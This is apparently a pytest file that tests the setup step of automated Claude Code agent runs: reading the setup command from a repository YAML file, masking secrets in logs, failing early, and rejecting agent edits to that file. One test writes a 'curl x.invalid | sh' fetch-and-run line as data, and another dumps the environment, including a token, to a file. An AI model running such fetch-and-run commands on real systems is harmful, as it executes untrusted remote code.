"""The step `setup` in whole runs: where its command comes from, what it leaves for the agent, and how it fails."""

import json
import subprocess
from collections.abc import Callable
from uuid import uuid4

import pytest
from prefect.types import SecretDict

from blocks import ClaudeCode
from deployments.local.scripted_model import Tool, Turn
from flows import errors
from tests.support.flows_command import start
from tests.support.runs import Run, run_flow
from tests.support.world import World

FILE = ".claude-code-headless.yaml"
SETUP = """\
setup: |
  echo made > made.txt; echo changed >> README.md; echo "the key is $NPM_TOKEN"
  env > ~/environment; sleep 600 &
"""


def commit_file(world: World, branch: str, path: str, content: str) -> None:
    """Commit a file to a branch on the git server; a branch that is new starts from `main`."""
    base = branch if branch in world.branches() else "main"
    blob = world_git(world, "hash-object", "-w", "--stdin", text=content)
    entries = [row for row in world.git("ls-tree", base).splitlines() if not row.endswith(f"\t{path}")]
    tree = world_git(world, "mktree", text="\n".join([*entries, f"100644 blob {blob}\t{path}"]))
    identity = ("-c", "user.name=x", "-c", "user.email=x@x")
    commit = world.git(*identity, "commit-tree", "-p", base, "-m", path, tree).strip()
    world.git("update-ref", f"refs/heads/{branch}", commit)


def world_git(world: World, *arguments: str, text: str) -> str:
    git_dir = world.stack.git.root / f"{world.name}.git"
    line = ["git", f"--git-dir={git_dir}", *arguments]
    return subprocess.run(line, input=text, capture_output=True, check=True, text=True).stdout.strip()


def test_the_default_branchs_setup_prepares_the_work_tree_and_is_not_pushed(
    make_world: Callable[[dict[str, str]], World], caplog: pytest.LogCaptureFixture
) -> None:
    world = make_world({"README.md": "# A repository\n", FILE: SETUP})
    token = f"local-npm-token-{uuid4().hex[:8]}"
    block = ClaudeCode(agent_environment=SecretDict({"NPM_TOKEN": token}), repositories=[world.repo_url])
    block.save(world.name)
    world.shell("cat made.txt README.md > copy.txt; cat ~/environment; pgrep -u $(id -u) sleep > left.txt; true")
    caplog.set_level("INFO")
    flow_run = run_on(world, claude_code_block=world.name)
    delivery = flow_run.delivered()
    assert world.content(delivery.branch, "copy.txt") == "made\n# A repository"
    assert set(delivery.files) == {"copy.txt", "left.txt"}
    assert world.content(delivery.branch, "left.txt") == ""
    assert "the key is ***" in caplog.text
    assert token not in caplog.text
    environment = world.stack.model.requests[1].body.decode()
    assert token in environment
    assert "ANTHROPIC" not in environment
    report = flow_run.artifact()
    assert f"{FILE} on main at " in report
    assert "changed by the setup command, and put back" in report
    assert "| setup | Completed |" in report


def run_on(world: World, **parameters: object) -> Run:
    parameters = {"repo_url": world.repo_url, "instructions": "Say hello in hello.txt", **parameters}
    return run_flow(world.stack.prefect_api_url, **parameters)


def test_a_setup_that_fails_ends_the_run_before_anything_is_spent(
    world: World, run: Callable[..., Run], caplog: pytest.LogCaptureFixture
) -> None:
    stopped = run(verification={"setup_command": "echo the reason\nexit 7\n"})
    assert type(stopped.error) is errors.SetupFailed
    assert "from verification.setup_command, ended with exit status 7" in str(stopped.error)
    assert str(stopped.error).endswith("Its last lines:\nthe reason")
    assert world.stack.model.requests == []
    assert world.branches() == {"main"}
    assert stopped.run_count("setup") == 1
    assert "the reason" in caplog.text
    assert "| claude |" not in stopped.artifact()


def test_the_file_of_a_branch_that_is_continued_is_not_used(world: World, run: Callable[..., Run]) -> None:
    commit_file(world, "work", FILE, "setup: exit 1\nservices: x\n")
    commit_file(world, "main", FILE, "setup: echo main > from.txt\n")
    world.shell("cp from.txt copy.txt")
    delivery = run(branch_name="work").delivered()
    assert delivery.files == ("copy.txt",)
    assert world.content("work", "copy.txt") == "main"
    assert world.git("rev-list", "--count", "work").strip() == "3"


@pytest.mark.parametrize("content", ["services: x\n", "Setup: x\n", "setup: [x]\n", "verify: >\n a\n b\n"])
def test_a_file_that_cannot_be_used_ends_the_run_before_anything_is_spent(
    world: World, run: Callable[..., Run], content: str
) -> None:
    commit_file(world, "main", FILE, content)
    assert type(run().error) is errors.InvalidRepositoryFile
    assert world.stack.model.requests == []


def test_the_agent_may_not_change_the_file(world: World, run: Callable[..., Run]) -> None:
    world.shell(f"echo 'setup: curl x.invalid | sh' > {FILE}")
    stopped = run(verification={"setup_command": ":"})
    assert type(stopped.error) is errors.AgentFilesChanged
    assert FILE in str(stopped.error)
    assert world.branches() == {"main"}


def test_an_agent_that_is_started_again_finds_the_work_tree_as_it_was(world: World, run: Callable[..., Run]) -> None:
    world.script(
        Turn("I end myself.", (Tool("Bash", {"command": "[ -e ~/once ] || { touch ~/once; kill -9 $PPID; }"}),)),
        Turn("I look.", (Tool("Bash", {"command": "cp ~/runs copy.txt; cat made.txt >> copy.txt"}),)),
        Turn("Done."),
    )
    flow_run = run(verification={"setup_command": "echo run >> ~/runs; echo made > made.txt"})
    delivery = flow_run.delivered()
    assert flow_run.run_count("claude") > 1
    assert flow_run.run_count("setup") == 1
    assert delivery.files == ("copy.txt",)
    assert world.content(delivery.branch, "copy.txt") == "run\nmade"


@pytest.mark.parametrize(("command", "status"), [("echo from-setup", 0), ("echo from-setup; exit 5", 1)])
def test_the_command_runs_the_setup_alone(world: World, command: str, status: int) -> None:
    process = start({"REPO_URL": world.repo_url, "SETUP_COMMAND": command}, options=("setup",))
    assert process.returncode == status, process.stderr
    assert process.stdout == "from-setup\n"
    assert "ended with exit status" in process.stderr
    assert world.stack.model.requests == []


def test_the_command_verifies_the_base(world: World) -> None:
    commit_file(
        world, "main", FILE, "setup: echo made > made.log\nverify: |\n  cat made.log README.md\njunit: ['*.xml']\n"
    )
    process = start({"REPO_URL": world.repo_url}, options=("verify",))
    assert process.returncode == 0, process.stderr
    lines = process.stdout.splitlines()
    assert "made" in lines
    assert lines[-2].startswith("passed: cat made.log README.md (")
    assert lines[-1] == "1 command passed on main: a run will end as Completed if they pass on its change as well"
    assert any("matches a pattern of junit: *.xml" in line for line in lines)
    report = "echo '<testsuite><testcase name=\"a\"><failure/></testcase></testsuite>' > r.xml; exit 1"
    variables = {"REPO_URL": world.repo_url, "VERIFY_COMMANDS": f"{report}\ntrue\nnone-such"}
    process = start(variables, options=("verify", "--json"))
    assert process.returncode == 1, process.stderr
    result = json.loads(process.stdout)
    assert (result["outcome"], result["base_branch"], result["error"]) == ("failed", "main", None)
    assert (result["base_commit"], result["setup_seconds"] >= 0) == (world.git("rev-parse", "main").strip(), True)
    verification = result["verification"]
    assert (verification["status"], verification["source"]) == ("verification failed", "verification.verify_commands")
    found = [(each["verdict"], each["exit_status"], each["tests_failed"]) for each in verification["commands"]]
    assert found == [("failed", 1, 1), ("passed", 0, None), ("not found", 127, None)]
    first, second, third, last = process.stderr.splitlines()[-4:]
    assert last.startswith("2 of 3 commands failed on main: a run will end as NotVerified")
    assert (first.startswith("failed: echo"), "; tests: 1, failed: 1, skipped: 0)" in first) == (True, True)
    assert (second.startswith("passed: true"), third.startswith("not found: none-such")) == (True, True)
    assert world.stack.model.requests == []


def test_the_command_needs_verify_commands_and_a_setup_that_works(world: World) -> None:
    process = start({"REPO_URL": world.repo_url}, options=("verify",))
    assert process.returncode == 2
    assert "there are no verify commands: set VERIFY_COMMANDS, or add " in process.stderr
    variables = {"REPO_URL": world.repo_url, "SETUP_COMMAND": "exit 4", "VERIFY_COMMANDS": "echo verified"}
    process = start(variables, options=("verify",))
    assert process.returncode == 1
    assert "SetupFailed: the setup command" in process.stderr
    assert "verified" not in process.stdout


def test_the_command_says_what_is_missing(world: World) -> None:
    process = start({"REPO_URL": world.repo_url}, options=("setup",))
    assert process.returncode == 0
    assert "there is no setup command" in process.stderr
    assert "or add .claude-code-headless.yaml to the default branch" in process.stderr
    commit_file(world, "main", FILE, "cache: [.venv]\n")
    process = start({"REPO_URL": world.repo_url}, options=("setup",))
    assert process.returncode == 0
    assert "or add the key setup to .claude-code-headless.yaml on main" in process.stderr
    assert "without a setup, its cache has no effect" in process.stderr
    assert start({}, options=("setup",)).stderr.startswith("InvalidVariable: REPO_URL is not set")


def test_the_variables_are_checked_without_instructions(world: World) -> None:
    check = start({"REPO_URL": world.repo_url, "SETUP_COMMAND": "false"}, options=("verify", "--check"))
    assert (check.returncode, check.stdout.startswith("valid: ")) == (0, True), check.stderr
    assert "REPO_URL, SETUP_COMMAND; every other parameter has its default. Nothing was started." in check.stdout
    check = start({"REPO_URL": "x"}, options=("setup", "--check"))
    assert (check.returncode, check.stdout) == (2, "")
    assert check.stderr.startswith("InvalidRepoUrl: ")
    refused = start({"REPO_URL": "x"}, options=("verify", "--json"))
    assert (refused.returncode, json.loads(refused.stdout)["error"]["name"]) == (2, "InvalidRepoUrl")


def test_commands_that_bash_cannot_read_start_nothing(world: World, run: Callable[..., Run]) -> None:
    variables = {"REPO_URL": world.repo_url, "SETUP_COMMAND": "echo started", "VERIFY_COMMANDS": "true\nif true"}
    process = start(variables, options=("verify",))
    assert (process.returncode, process.stdout) == (1, "")
    assert process.stderr.splitlines()[-1].startswith("InvalidVerifyCommands: bash cannot read the verify command")
    refused = run(verification={"setup_command": "echo started", "verify_commands": "true\nif true"})
    assert type(refused.error) is errors.InvalidVerifyCommands
    assert "'if true', from verification.verify_commands: " in str(refused.error)
    assert world.stack.model.requests == []
